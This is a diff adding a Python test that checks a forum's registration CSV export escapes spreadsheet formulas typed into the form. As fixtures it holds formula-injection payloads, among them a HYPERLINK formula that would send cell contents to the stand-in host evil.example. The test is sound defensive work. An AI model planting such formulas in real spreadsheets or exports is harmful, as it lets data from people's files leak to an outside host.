@@ -105,6 +105,29 @@ def test_sign_in_list_exports_as_csv_without_email_addresses(
     assert "@" not in text
 
 
+def test_sign_in_list_csv_runs_no_formula_typed_into_the_form(
+    staff: Client, session: ForumSessionPage
+) -> None:
+    """Names, organisations and needs are what strangers typed in: a spreadsheet must show
+    them as text, never run them."""
+    RegistrationFactory(
+        session=session,
+        name='=HYPERLINK("https://evil.example/?"&A1,"Details")',
+        organisation="+49 170 1234567",
+        accessibility_needs="@SUM(1+1)",
+    )
+    RegistrationFactory(
+        session=session, name="-2+3", organisation="\tTab", accessibility_needs="\rx"
+    )
+    response = staff.get(reverse("forum_registrations:index"), {"export": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [
+        cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row[1:3] + row[6:7]
+    ]
+    assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert """'=HYPERLINK("https://evil.example/?"&A1,"Details")""" in cells
+
+
 def test_sign_in_list_exports_as_xlsx_for_the_filtered_status(
     staff: Client, people: list[Registration]
 ) -> None:
